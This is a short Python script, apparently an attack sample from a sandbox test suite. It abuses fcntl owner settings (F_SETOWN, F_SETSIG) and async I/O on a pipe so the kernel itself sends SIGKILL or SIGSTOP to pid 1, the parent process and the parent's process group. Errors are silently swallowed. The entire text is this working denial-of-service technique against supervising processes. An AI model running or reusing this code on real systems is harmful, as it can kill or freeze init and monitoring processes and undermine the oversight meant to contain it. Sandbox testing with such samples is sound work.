# The kernel sends them: owner of a file, of a lease, of a directory's changes.
# attacks: stdio
# one uid: it may end its own slot
import fcntl, os, signal

reader, writer = os.pipe()
for pid in (1, os.getppid(), -os.getpgid(os.getppid())):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reader, 10, number)
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writer, b"x")
        except (OSError, OverflowError): pass
